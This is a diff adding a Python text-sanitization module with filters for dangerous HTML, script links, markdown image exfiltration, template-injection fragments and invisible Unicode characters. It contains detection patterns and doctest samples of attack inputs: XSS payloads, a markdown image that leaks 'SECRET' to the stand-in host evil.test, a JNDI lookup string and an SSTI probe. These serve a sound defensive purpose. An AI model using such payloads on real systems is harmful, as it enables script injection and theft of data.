@@ -1,0 +1,468 @@
+"""Text filters: remove dangerous markup, links, template fragments and invisible characters.
+
+Each filter returns the cleaned text and reports what it removed. Text with
+nothing to remove passes through unchanged, byte for byte (fast paths: ``a < b``
+is not HTML). Patterns run on RE2, which guarantees linear time.
+"""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from collections.abc import Iterable, Mapping
+from typing import Any
+
+import re2
+
+from keras_sanitize.config import register_stage
+from keras_sanitize.errors import ConfigError
+from keras_sanitize.findings import Action, Severity, echo
+from keras_sanitize.stage import Context, Filter, check_choice
+from keras_sanitize.text import _unicode as U
+from keras_sanitize.text._html import BleachEngine, Nh3Engine
+from keras_sanitize.text.encoders import require_str
+
+__all__ = ["FragmentFilter", "HtmlSanitizer", "LinkFilter", "StripInvisible", "UnicodeNormalize"]
+
+#: Tags kept by ``mode="strip"``: text formatting only (no images, forms, media, frames).
+DEFAULT_TAGS: frozenset[str] = frozenset(
+    [
+        "a",
+        "abbr",
+        "b",
+        "blockquote",
+        "br",
+        "code",
+        "dd",
+        "del",
+        "dl",
+        "dt",
+        "em",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "hr",
+        "i",
+        "ins",
+        "kbd",
+        "li",
+        "ol",
+        "p",
+        "pre",
+        "q",
+        "s",
+        "small",
+        "span",
+        "strong",
+        "sub",
+        "sup",
+        "table",
+        "tbody",
+        "td",
+        "th",
+        "thead",
+        "tr",
+        "u",
+        "ul",
+    ]
+)
+#: Attributes kept per tag.
+DEFAULT_ATTRIBUTES: Mapping[str, frozenset[str]] = {
+    "a": frozenset({"href", "title"}),
+    "abbr": frozenset({"title"}),
+}
+#: URL schemes allowed in kept attributes.
+DEFAULT_URL_SCHEMES: frozenset[str] = frozenset({"http", "https", "mailto"})
+#: Elements removed together with their contents.
+DEFAULT_CLEAN_CONTENT_TAGS: frozenset[str] = frozenset(
+    {
+        "script",
+        "style",
+        "iframe",
+        "noscript",
+        "template",
+        "xmp",
+        "noembed",
+        "noframes",
+        "object",
+        "embed",
+        "math",
+        "svg",
+    }
+)
+_DANGER_RE = re.compile(
+    r"<\s*/?\s*(?:script|iframe|object|embed|svg|math|style|base|meta|link|form|frame|applet)\b"
+    r"|\son[a-z]+\s*=|(?:java|vb|live)script\s*:|data\s*:\s*text/html",
+    re.IGNORECASE,
+)
+_TAG_NAME_RE = re.compile(r"</?([A-Za-z][A-Za-z0-9-]*)")
+_MODES = ("strip", "escape", "reject", "allow")
+_ENGINES = ("nh3", "bleach")
+
+
+def _frozen(owner: str, name: str, value: Iterable[str]) -> frozenset[str]:
+    if isinstance(value, str) or not all(isinstance(v, str) for v in value):
+        raise ConfigError(f"{owner}: {name} must be a list of strings. Received: {name}={value!r}")
+    return frozenset(v.lower() for v in value)
+
+
+@register_stage()
+class HtmlSanitizer(Filter):
+    """Remove dangerous HTML with ``nh3`` (default) or ``bleach``, or escape or refuse markup.
+
+    Args:
+        engine: ``"nh3"`` (maintained, fast) or ``"bleach"``.
+        mode: ``"strip"`` dangerous markup (keep ``tags``), ``"escape"`` all
+            markup, ``"reject"`` any markup, or ``"allow"`` it unchanged.
+        tags / attributes / url_schemes: what ``"strip"`` keeps.
+
+    Text without markup (no ``<`` followed by a letter, ``/``, ``!`` or ``?``)
+    passes through unchanged in every mode.
+
+    Example:
+        >>> HtmlSanitizer().run('hi <img src=x onerror=alert(1)><b>there</b>').value
+        'hi <b>there</b>'
+        >>> HtmlSanitizer(engine="bleach").run("a<script>alert(1)</script>b").value
+        'ab'
+        >>> HtmlSanitizer().run("if a < b && c > d").value
+        'if a < b && c > d'
+    """
+
+    modality = "text"
+
+    def __init__(
+        self,
+        engine: str = "nh3",
+        mode: str = "strip",
+        tags: Iterable[str] = DEFAULT_TAGS,
+        attributes: Mapping[str, Iterable[str]] = DEFAULT_ATTRIBUTES,
+        url_schemes: Iterable[str] = DEFAULT_URL_SCHEMES,
+        **kwargs: Any,
+    ) -> None:
+        super().__init__(**kwargs)
+        owner = type(self).__name__
+        self.engine = check_choice(owner, "engine", engine, _ENGINES)
+        self.mode = check_choice(owner, "mode", mode, _MODES)
+        self.tags = _frozen(owner, "tags", tags)
+        if not isinstance(attributes, Mapping):
+            raise ConfigError(
+                f"{owner}: attributes must map tag -> attribute names. Received: {attributes!r}"
+            )
+        self.attributes = {str(k): _frozen(owner, f"attributes[{k!r}]", v) for k, v in attributes.items()}
+        self.url_schemes = _frozen(owner, "url_schemes", url_schemes)
+        cls = Nh3Engine if self.engine == "nh3" else BleachEngine
+        self._engine = cls(self.tags, self.attributes, self.url_schemes, DEFAULT_CLEAN_CONTENT_TAGS)
+
+    def process(self, value: Any, ctx: Context) -> Any:
+        text = require_str(ctx, value)
+        first = U.MARKUP_RE.search(text)
+        if first is None or self.mode == "allow":
+            return text
+        tags = sorted({m.group(1).lower() for m in _TAG_NAME_RE.finditer(text[:100_000])})[:30]
+        danger = _DANGER_RE.search(text)
+        where = f"first at offset {first.start()}: {echo(text[first.start() : first.start() + 40])}"
+        if self.mode == "reject":
+            ctx.add(
+                "text.html_markup",
+                f"HTML markup is not allowed here (mode='reject'); found tags {tags}, {where}. "
+                f"Send plain text, or use mode='strip'.",
+                severity=Severity.HIGH if danger else Severity.MEDIUM,
+                span=(first.start(), first.end()),
+                detail={"tags": tags, "dangerous": danger is not None},
+            )
+            return text
+        if self.mode == "escape":
+            out = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+        else:
+            out = self._engine.clean(text)
+        if out != text:
+            removed = [t for t in tags if t not in self.tags] if self.mode == "strip" else tags
+            ctx.add(
+                "text.html_removed" if self.mode == "strip" else "text.html_escaped",
+                f"HTML markup was {'cleaned' if self.mode == 'strip' else 'escaped'} "
+                f"({self.engine}, mode={self.mode!r}); tags {removed} removed"
+                f"{', with script/event-handler/javascript: content' if danger else ''}; {where}",
+                severity=Severity.HIGH if danger else Severity.LOW,
+                action=Action.SANITIZE,
+                span=(first.start(), first.end()),
+                detail={"tags": removed, "dangerous": danger is not None, "engine": self.engine},
+            )
+        return out
+
+    def get_config(self) -> dict[str, Any]:
+        config = super().get_config()
+        config.update(
+            engine=self.engine,
+            mode=self.mode,
+            tags=sorted(self.tags),
+            attributes={k: sorted(v) for k, v in sorted(self.attributes.items())},
+            url_schemes=sorted(self.url_schemes),
+        )
+        return config
+
+
+_MD_LINK = re2.compile(r"(!?)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
+_BARE_SCHEME = re2.compile(r"(?i)\b(javascript|vbscript|livescript|data)\s*:")
+_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://([^/?#:@\s]*@)?([^/?#:\s]+)", re.IGNORECASE)
+#: Schemes refused in links.
+DEFAULT_BAD_SCHEMES: frozenset[str] = frozenset({"javascript", "vbscript", "livescript", "data", "file"})
+
+
+@register_stage()
+class LinkFilter(Filter):
+    """Neutralize dangerous links in markdown: script URLs and image exfiltration.
+
+    * ``[text](javascript:...)`` (and ``vbscript:``/``data:``/``file:``): the link is
+      replaced by its text.
+    * ``![alt](https://host/?q=...)`` to a host not in ``allowed_image_hosts``:
+      replaced by its alt text (a rendered image would send the query string,
+      possibly holding secrets, to that host).
+    * A bare ``javascript:``/``vbscript:``/``data:`` URL elsewhere is reported
+      as a warning and left as text.
+
+    Example:
+        >>> LinkFilter().run("see ![x](https://evil.test/p.png?q=SECRET)").value
+        'see x'
+        >>> LinkFilter().run("[click](javascript:alert(1))").value
+        'click'
+        >>> LinkFilter(allowed_image_hosts=["img.example.com"]).run("![a](https://img.example.com/a.png)").ok
+        True
+    """
+
+    modality = "text"
+
+    def __init__(self, allowed_image_hosts: Iterable[str] = (), **kwargs: Any) -> None:
+        super().__init__(**kwargs)
+        self.allowed_image_hosts = _frozen(type(self).__name__, "allowed_image_hosts", allowed_image_hosts)
+
+    def _image_ok(self, url: str) -> bool:
+        m = _HOST.match(url)
+        if m is None:
+            return not re.match(r"^[a-z][a-z0-9+.-]*:|^//", url, re.IGNORECASE)  # relative path
+        host = m.group(2).lower().rstrip(".")
+        return any(host == h or host.endswith("." + h) for h in self.allowed_image_hosts)
+
+    def process(self, value: Any, ctx: Context) -> Any:
+        text = require_str(ctx, value)
+        if "](" not in text and ":" not in text:
+            return text
+        removed: list[dict[str, str]] = []
+        if "](" in text:
+
+            def fix(m: Any) -> str:
+                bang, label, url = m.group(1), m.group(2), m.group(3)
+                scheme = url.split(":", 1)[0].strip().lower() if ":" in url else ""
+                if scheme in DEFAULT_BAD_SCHEMES:
+                    removed.append({"kind": "script_link", "url": url[:200]})
+                    return str(label)
+                if bang and not self._image_ok(url):
+                    removed.append({"kind": "image_exfiltration", "url": url[:200]})
+                    return str(label)
+                return str(m.group(0))
+
+            text = _MD_LINK.sub(fix, text)
+        if removed:
+            ctx.add(
+                "text.dangerous_link",
+                f"{len(removed)} markdown link(s)/image(s) removed: script URLs and images on "
+                f"hosts outside allowed_image_hosts (data exfiltration); first {echo(removed[0]['url'])}",
+                severity=Severity.HIGH,
+                action=Action.SANITIZE,
+                detail={"removed": removed[:20]},
+            )
+        bare = _BARE_SCHEME.search(text) if ":" in text else None
+        if (bare is not None and bare.group(1).lower() != "data") or (
+            bare is not None
+            and re.match(r"data\s*:\s*text/html", text[bare.start() : bare.start() + 40], re.I)
+        ):
+            assert bare is not None
+            ctx.add(
+                "text.script_url",
+                f"text holds a {bare.group(1).lower()}: URL at offset {bare.start()} "
+                f"({echo(text[bare.start() : bare.start() + 40])}); harmless as plain text, "
+                f"dangerous if rendered as a link",
+                severity=Severity.LOW,
+                action=Action.WARN,
+                span=(bare.start(), bare.end()),
+            )
+        return text
+
+    def get_config(self) -> dict[str, Any]:
+        config = super().get_config()
+        config.update(allowed_image_hosts=sorted(self.allowed_image_hosts))
+        return config
+
+
+#: Template and server-side-include fragments, by name (RE2 syntax).
+DEFAULT_FRAGMENT_PATTERNS: Mapping[str, str] = {
+    "jinja": r"\{\{[^\n]*?\}\}|\{%[^\n]*?%\}",
+    "js_template": r"\$\{[^}\n]*\}",
+    "erb_asp": r"<%[\s\S]*?%>",
+    "ssi": r"<!--#[\s\S]*?-->",
+    "expression_language": r"#\{[^}\n]*\}",
+}
+
+
+@register_stage()
+class FragmentFilter(Filter):
+    """Report, strip or refuse template and server-side-include fragments.
+
+    ``{{ }}``, ``{% %}``, ``${ }``, ``<% %>``, ``<!--# -->`` and ``#{ }`` reach
+    template engines that evaluate them (SSTI). Code questions contain them
+    innocently, so the default ``mode`` is ``"warn"``.
+
+    Args:
+        patterns: name -> RE2 pattern (linear time).
+        mode: ``"warn"``, ``"strip"`` or ``"reject"``.
+
+    Example:
+        >>> FragmentFilter(mode="strip").run("hi {{7*7}} there").value
+        'hi  there'
+        >>> FragmentFilter().run("${jndi:ldap://x}").findings[0].detail["kinds"]
+        ['js_template']
+    """
+
+    modality = "text"
+
+    def __init__(
+        self, patterns: Mapping[str, str] = DEFAULT_FRAGMENT_PATTERNS, mode: str = "warn", **kwargs: Any
+    ) -> None:
+        super().__init__(**kwargs)
+        owner = type(self).__name__
+        self.mode = check_choice(owner, "mode", mode, ("warn", "strip", "reject"))
+        if not isinstance(patterns, Mapping) or not patterns:
+            raise ConfigError(
+                f"{owner}: patterns must be a non-empty mapping name -> regex. Received: {patterns!r}"
+            )
+        self.patterns = {str(k): str(v) for k, v in patterns.items()}
+        self._compiled = {}
+        for name, pattern in self.patterns.items():
+            try:
+                self._compiled[name] = re2.compile(pattern)
+            except re2.error as exc:
+                raise ConfigError(f"{owner}: patterns[{name!r}] is not valid RE2: {exc}") from None
+        self._any = re2.compile("|".join(f"(?:{p})" for p in self.patterns.values()))
+
+    def process(self, value: Any, ctx: Context) -> Any:
+        text = require_str(ctx, value)
+        if not any(c in text for c in "{%#"):
+            return text
+        first = self._any.search(text)
+        if first is None:
+            return text
+        kinds = [name for name, rx in self._compiled.items() if rx.search(text) is not None]
+        action = {"warn": Action.WARN, "strip": Action.SANITIZE, "reject": Action.REJECT}[self.mode]
+        out = self._any.sub("", text) if self.mode == "strip" else text
+        ctx.add(
+            "text.template_fragment",
+            f"text holds template/SSI fragments ({', '.join(kinds)}), first "
+            f"{echo(first.group(), 60)} at offset {first.start()}: template engines evaluate them. "
+            f"Mode {self.mode!r}.",
+            severity=Severity.MEDIUM,
+            action=action,
+            span=(first.start(), first.end()),
+            detail={"kinds": kinds},
+        )
+        return out
+
+    def get_config(self) -> dict[str, Any]:
+        config = super().get_config()
+        config.update(patterns=dict(self.patterns), mode=self.mode)
+        return config
+
+
+@register_stage()
+class UnicodeNormalize(Filter):
+    """Normalize to NFC (default) or NFKC.
+
+    NFC only composes characters (no visible change) and is not reported;
+    NFKC also folds compatibility forms (full-width letters, ligatures) and
+    reports when it changed the text.
+
+    Example:
+        >>> UnicodeNormalize().run("e\\u0301").value == "\\u00e9"
+        True
+        >>> UnicodeNormalize("NFKC").run("ｉｇｎｏｒｅ").value
+        'ignore'
+    """
+
+    modality = "text"
+
+    def __init__(self, form: str = "NFC", **kwargs: Any) -> None:
+        super().__init__(**kwargs)
+        self.form = check_choice(type(self).__name__, "form", form, ("NFC", "NFKC"))
+
+    def process(self, value: Any, ctx: Context) -> Any:
+        text = require_str(ctx, value)
+        if text.isascii() or unicodedata.is_normalized(self.form, text):
+            return text
+        out = unicodedata.normalize(self.form, text)
+        if self.form == "NFKC":
+            ctx.add(
+                "text.normalized",
+                "compatibility characters (full-width, ligatures, styled letters) were folded (NFKC)",
+                severity=Severity.INFO,
+                action=Action.SANITIZE,
+            )
+        return out
+
+    def get_config(self) -> dict[str, Any]:
+        config = super().get_config()
+        config.update(form=self.form)
+        return config
+
+
+_STRIP_RE = re.compile(
+    "[\u034f\u115f\u1160\u180e\u200b-\u200d\u202a-\u202e\u2060-\u2064\u2066-\u2069\u3164\ufeff\uffa0"
+    "]|[\U000e0000-\U000e007f]+|[\ufe00-\ufe0f\U000e0100-\U000e01ef]{3,}"
+)
+
+
+@register_stage()
+class StripInvisible(Filter):
+    """Remove bidi controls, tag characters, zero-width padding and variation-selector runs.
+
+    ZWJ/ZWNJ stay where writing uses them (Persian, Indic, emoji sequences);
+    LRM/RLM marks and single VS15/VS16 stay.
+
+    Example:
+        >>> StripInvisible().run("ig\\u200bno\\u202ere").value
+        'ignore'
+        >>> StripInvisible().run("می\\u200cخواهم").ok
+        True
+    """
+
+    modality = "text"
+
+    def process(self, value: Any, ctx: Context) -> Any:
+        text = require_str(ctx, value)
+        if text.isascii() or not U.has_suspects(text):
+            return text
+        kept = 0
+        removed = 0
+
+        def drop(m: Any) -> str:
+            nonlocal kept, removed
+            ch = m.group()
+            if ch in U.CONTEXT_JOINERS and U.joiner_is_legit(m.string, m.start()):
+                kept += 1
+                return str(ch)
+            if ch[0] >= "\U000e0000" and U.is_flag_tags(m.string, m.start(), m.end()):
+                kept += 1
+                return str(ch)
+            removed += len(ch)
+            return ""
+
+        out = _STRIP_RE.sub(drop, text)
+        if out != text:
+            ctx.add(
+                "text.invisible_removed",
+                f"{removed} invisible/bidi/tag character(s) were removed",
+                severity=Severity.LOW,
+                action=Action.SANITIZE,
+                detail={"removed": removed},
+            )
+        return out
